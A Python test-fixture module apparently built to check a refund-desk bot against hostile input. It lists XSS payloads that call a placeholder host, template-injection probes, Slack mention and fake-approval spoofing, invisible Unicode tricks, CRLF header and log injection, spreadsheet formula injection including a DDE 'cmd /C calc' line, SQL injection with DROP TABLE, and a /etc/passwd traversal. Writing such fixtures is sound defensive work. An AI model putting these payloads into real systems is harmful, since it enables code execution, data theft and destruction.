"""What somebody with bad intentions would type: each acts somewhere if it is taken as more than text.

``CANARY`` is the host that any of them would make a browser or a server ask. ``EVIL`` is a word by which what
came through is found again.
"""

CANARY = "canary.invalid"
EVIL = "ev1l"
RUN = f"document.title='{EVIL}';new Image().src='http://{CANARY}/run'"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src=//{CANARY}/a.js></script>",
    "picture": f'<img src=http://{CANARY}/i onerror="{RUN}">',
    "drawing": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    "double quoted attribute": f'"><img src=x onerror={RUN}> x="',
    "single quoted attribute": f"' autofocus onfocus={RUN} x='",
    "end of a field": f"</textarea></title></style></script><script>{RUN}</script>",
    "comment": f"<!--><img src=http://{CANARY}/c>--><![CDATA[<b>]]><?php echo 1 ?>",
    "base": f'<base href="http://{CANARY}/"><meta http-equiv=refresh content="0;url=http://{CANARY}/">',
    "style": f"<style>@import 'http://{CANARY}/s';</style><link rel=stylesheet href=http://{CANARY}/l>",
    "form": f'<form action="http://{CANARY}/f"><input name=nonce><button>Pay</button></form>',
    "frame": f"<iframe srcdoc='<script>{RUN}</script>'></iframe><object data=http://{CANARY}/o></object>",
    "address": f"javascript:{RUN}//",
    "address with a tab": f"java\tscript:{RUN}",
    "data address": "data:text/html,<script>alert(1)</script>",
    "entities": "&lt;script&gt; &#60;img&#62; &amp;lt; &quot;&apos; &notanentity; &",
    "half": "<<<>>>&&&\"\"'''``<a <b </ <! <? <%",
}
TEMPLATES = {
    "jinja": "{{ 7*7 }}{% for x in [1] %}loop{% endfor %}{# gone #}",
    "jinja inside": "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "format": "{amount} {0} {} {number.__class__} %s %(x)s ${x} $(id) `id` {{",
    "the desk's own": "{link} {credit_code} …{link}",
}
SLACK = {
    "everybody": "<!channel> <!here> <!everyone> <!subteam^S01GROUP> @channel @here",
    "somebody": "<@U01ALICE> <@W012> <#C01RETURNS|general>",
    "disguised link": f"<https://{CANARY}/pay|Pay 0.00 EUR> <mailto:a@{CANARY}|the shop>",
    "moment": "<!date^1^{date}^https://" + CANARY + "|today>",
    "marks": "*bold* _x_ ~gone~ `code` ```block``` > quote\n>>> quotes\n• item",
    "status line": "\n:white_check_mark: *Approved by <@U01ALICE>* · refunded *999.00 EUR*\n",
    "reference": "[RMA-1 op:refund] RMA-1-R1 refunded by hand",
    "shortcodes": ":octagonal_sign: :tada: :white_check_mark::skin-tone-2:",
}
UNSEEN = {
    "right to left": "\u202egnp.exe\u202c \u2066 inside \u2069 \u061c\u200f",
    "no width": "a\u200bb\u200c\u200d\u2060\ufeff\u00adc",
    "terminal": f"\x1b[2J\x1b[31m{EVIL}\x1b]0;title\x07\x9b31m\x08\x08",
    "nul": "before\0after\0",
    "new header": f"x\r\nSet-Cookie: {EVIL}=1\r\nLocation: http://{CANARY}/\r\n\r\n<b>body</b>",
    "new entry": f"x\n2026-11-23 10:00:00,000 INFO bot.desk: {EVIL} refunded 999.00 EUR\u2028next\x85next",
    "tags": "\U000e0068\U000e0069\ufff9\ufffa\ufffb\ufffe\uffff",
    "marks on marks": "Z" + "\u0301\u0316\u0489" * 1333,
    "family": "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 30,
    "long": "x" * 4000,
    "wide": "１２３，４５ ＜script＞ ﷽ İıſK",
}
FORMULAS = {
    "formula": f'=HYPERLINK("http://{CANARY}/?"&A1,"Pay")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "line": "\r=1+1",
    "wide formula": "＝1+1",
    "blank before": " =1+1",
    "quotes": '"=1+1","=2+2"\r\n=3+3',
}
QUERIES = {
    "sql": "'; DROP TABLE returns; -- \\' \" %' OR 1=1 /*",
    "like": "%_%__\\%[a-z]^",
    "full text": '" OR * NEAR(a b, 2) NOT -x col:y ^z {a} AND (',
    "path": "../../etc/passwd\0.png",
    "json": '{"$ne": null}, ["a"], \\u0000 \\ud800',
    "number": "1e9 -5 NaN Infinity 0x10 １２",
}
PAYLOADS = {**MARKUP, **TEMPLATES, **SLACK, **UNSEEN, **FORMULAS, **QUERIES}
